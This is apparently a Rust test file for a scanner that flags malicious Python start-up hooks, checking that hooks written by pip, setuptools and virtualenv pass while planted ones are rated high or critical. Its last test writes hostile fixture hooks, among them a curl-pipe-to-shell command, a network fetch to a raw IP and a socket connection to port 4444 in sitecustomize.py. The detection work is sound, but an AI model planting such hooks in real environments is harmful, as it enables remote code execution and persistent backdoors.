//! Start-up hooks in REAL environments built with pip and virtualenv: the
//! benign hooks real tools write must not be high/critical; planted ones must.

use chainwarden_core::Severity;
use chainwarden_heuristics::hooks::{PthLineKind, analyze_pth};
use chainwarden_heuristics::{HookFinding, audit_site_dir_results};
use chainwarden_testkit::{build_once, cache_dir, run, site_packages, venv};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::Command;

/// site-relative path → (name, version), from every RECORD in the site dir.
fn record_owners(site: &Path) -> HashMap<String, (String, String)> {
    let mut owners = HashMap::new();
    for e in std::fs::read_dir(site).unwrap().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        let Some(stem) = name.strip_suffix(".dist-info") else {
            continue;
        };
        let Some((dist, version)) = stem.rsplit_once('-') else {
            continue;
        };
        let Ok(record) = std::fs::read_to_string(e.path().join("RECORD")) else {
            continue;
        };
        for line in record.lines() {
            let path = line.split(',').next().unwrap_or_default();
            owners.insert(path.to_string(), (dist.to_string(), version.to_string()));
        }
    }
    owners
}

fn audit(site: &Path) -> Vec<HookFinding> {
    let owners = record_owners(site);
    audit_site_dir_results(site, &|p| owners.get(p).cloned())
}

/// A tiny setuptools project, written once, installed with `pip install -e`.
fn editable_project() -> PathBuf {
    let dir = cache_dir().join("heuristics-editable-project");
    build_once(&dir, |dir| {
        std::fs::create_dir_all(dir.join("src/cwdemo")).unwrap();
        std::fs::write(
            dir.join("pyproject.toml"),
            "[build-system]\nrequires = [\"setuptools>=64\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"cwdemo\"\nversion = \"0.1\"\n",
        )
        .unwrap();
        std::fs::write(dir.join("src/cwdemo/__init__.py"), "VALUE = 1\n").unwrap();
    })
}

/// A flat-layout project: setuptools installs it with an editable *finder*
/// (`import __editable___…_finder; …install()`), not a path line.
fn editable_flat_project() -> PathBuf {
    let dir = cache_dir().join("heuristics-editable-flat-project");
    build_once(&dir, |dir| {
        std::fs::create_dir_all(dir.join("cwflat")).unwrap();
        std::fs::write(
            dir.join("pyproject.toml"),
            "[build-system]\nrequires = [\"setuptools>=64\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"cwflat\"\nversion = \"0.1\"\n\n[tool.setuptools]\npackages = [\"cwflat\"]\n",
        )
        .unwrap();
        std::fs::write(dir.join("cwflat/__init__.py"), "VALUE = 2\n").unwrap();
    })
}

fn pth_files(site: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(site)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".pth"))
        .collect();
    v.sort();
    v
}

#[test]
fn benign_hooks_of_real_tools_are_not_high() {
    let project = editable_project();
    let project_arg = project.to_string_lossy().into_owned();
    let flat_arg = editable_flat_project().to_string_lossy().into_owned();
    let env = venv(
        "heuristics-hooks-benign",
        &[
            &["-U", "setuptools>=70.1"],
            &[
                "--no-deps",
                "pytest-cov==4.1.0",
                "coverage",
                "protobuf==3.20.3",
            ],
            &["--no-build-isolation", "-e", &project_arg],
            &["--no-build-isolation", "-e", &flat_arg],
        ],
    );
    let site = site_packages(&env);
    let pths = pth_files(&site);
    for expected in [
        "distutils-precedence.pth",
        "pytest-cov.pth",
        "a1_coverage.pth",
        "protobuf-3.20.3-nspkg.pth",
    ] {
        assert!(
            pths.iter().any(|p| p == expected),
            "{expected} not in {pths:?}"
        );
    }
    let editable = pths
        .iter()
        .find(|p| p.starts_with("__editable__.cwdemo"))
        .unwrap_or_else(|| panic!("no editable .pth in {pths:?}"));
    let finder = pths
        .iter()
        .find(|p| p.starts_with("__editable__.cwflat"))
        .unwrap_or_else(|| panic!("no editable finder .pth in {pths:?}"));
    let finder_text = std::fs::read_to_string(site.join(finder)).unwrap();
    assert!(
        finder_text.starts_with("import __editable___"),
        "{finder_text}"
    );

    // Every executed line of these files has a recognised benign shape.
    for name in &pths {
        let text = std::fs::read_to_string(site.join(name)).unwrap();
        for line in analyze_pth(name, &text) {
            if line.kind == PthLineKind::Import {
                assert!(
                    line.shape.is_some(),
                    "{name}:{} unrecognised: {}",
                    line.line,
                    line.text
                );
            }
        }
    }

    let results = audit(&site);
    let high: Vec<_> = results
        .iter()
        .filter(|r| r.severity >= Severity::High)
        .collect();
    assert!(high.is_empty(), "benign hooks reported high: {high:#?}");
    // The editable install's path line points into the project tree: not reported.
    assert!(
        !results.iter().any(|r| &r.site_relative == editable),
        "{results:#?}"
    );
}

#[test]
fn virtualenv_created_env_is_clean() {
    // virtualenv ≥ 21 writes `_virtualenv.pth` only for Python < 3.10; 20.26
    // writes it for every interpreter, so the real hook is there to audit.
    let tool = venv("heuristics-virtualenv-tool", &[&["virtualenv==20.26.6"]]);
    let dir = cache_dir().join("heuristics-virtualenv-made");
    let made = build_once(&dir, |dir| {
        run(Command::new(tool.join("bin/python"))
            .args([
                "-m",
                "virtualenv",
                "--no-periodic-update",
                "--seeder",
                "pip",
            ])
            .arg(dir.join("env")));
    })
    .join("env");
    let site = site_packages(&made);
    assert!(
        site.join("_virtualenv.pth").is_file(),
        "{:?}",
        pth_files(&site)
    );
    let text = std::fs::read_to_string(site.join("_virtualenv.pth")).unwrap();
    let lines = analyze_pth("_virtualenv.pth", &text);
    assert!(lines.iter().any(|l| l.kind == PthLineKind::Import));
    let results = audit(&site);
    assert!(
        results.iter().all(|r| r.severity < Severity::High),
        "{results:#?}"
    );
}

/// Hooks planted into a copy of a real site directory's hook files.
#[test]
fn planted_hooks_are_high_or_critical_and_name_their_owner() {
    let env = venv(
        "heuristics-hooks-plant-base",
        &[&["-U", "setuptools>=70.1"]],
    );
    let real_site = site_packages(&env);
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("lib/python3.11/site-packages");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::copy(
        real_site.join("distutils-precedence.pth"),
        site.join("distutils-precedence.pth"),
    )
    .unwrap();
    // A shim twin that imports another module is not the shim.
    let shim = std::fs::read_to_string(real_site.join("distutils-precedence.pth")).unwrap();
    std::fs::write(
        site.join("shim-twin.pth"),
        shim.replace("_distutils_hack", "_evil_hack"),
    )
    .unwrap();
    std::fs::write(site.join("plain.pth"), "import sys; sys.flags\n").unwrap();
    std::fs::write(
        site.join("net.pth"),
        "import urllib.request; urllib.request.urlopen('http://45.61.1.2/x')\n",
    )
    .unwrap();
    std::fs::write(site.join("loader.pth"), "import evilmod\n").unwrap();
    std::fs::write(
        site.join("evilmod.py"),
        "import os\nos.system('curl -s http://x.example/a | sh')\n",
    )
    .unwrap();
    std::fs::write(site.join("helper.pth"), "import quietmod\n").unwrap();
    std::fs::write(site.join("quietmod.py"), "VALUE = 1\n").unwrap();
    std::fs::write(site.join("missing.pth"), "import not_here\n").unwrap();
    std::fs::write(site.join("outside.pth"), "/opt/somewhere/else\n").unwrap();
    std::fs::write(
        site.join("sitecustomize.py"),
        "import socket\ns = socket.socket()\ns.connect(('45.61.1.2', 4444))\n",
    )
    .unwrap();

    let owners = |p: &str| (p == "net.pth").then(|| ("evil-pkg".to_string(), "0.1".to_string()));
    let results = audit_site_dir_results(&site, &owners);
    let by_file = |f: &str| -> Vec<&HookFinding> {
        results.iter().filter(|r| r.site_relative == f).collect()
    };
    assert!(by_file("distutils-precedence.pth").is_empty());
    assert_eq!(by_file("shim-twin.pth")[0].severity, Severity::High);
    assert_eq!(by_file("plain.pth")[0].severity, Severity::High);
    let net = by_file("net.pth");
    assert_eq!(net[0].severity, Severity::Critical);
    assert_eq!(net[0].rule, "hook/pth-exec");
    assert_eq!(net[0].owner, Some(("evil-pkg".into(), "0.1".into())));
    assert!(
        net[0]
            .to_finding()
            .message
            .contains("owned by evil-pkg 0.1")
    );
    assert_eq!(by_file("loader.pth")[0].severity, Severity::Critical);
    assert!(
        by_file("helper.pth").is_empty(),
        "a clean module import is not reported"
    );
    assert_eq!(by_file("missing.pth")[0].severity, Severity::Medium);
    let outside = by_file("outside.pth");
    assert_eq!(outside[0].rule, "hook/pth-path-outside");
    assert_eq!(outside[0].severity, Severity::Medium);
    let custom = by_file("sitecustomize.py");
    assert_eq!(custom[0].rule, "hook/sitecustomize");
    assert_eq!(custom[0].severity, Severity::Critical);
    assert!(custom[0].to_finding().message.contains("unowned"));
}
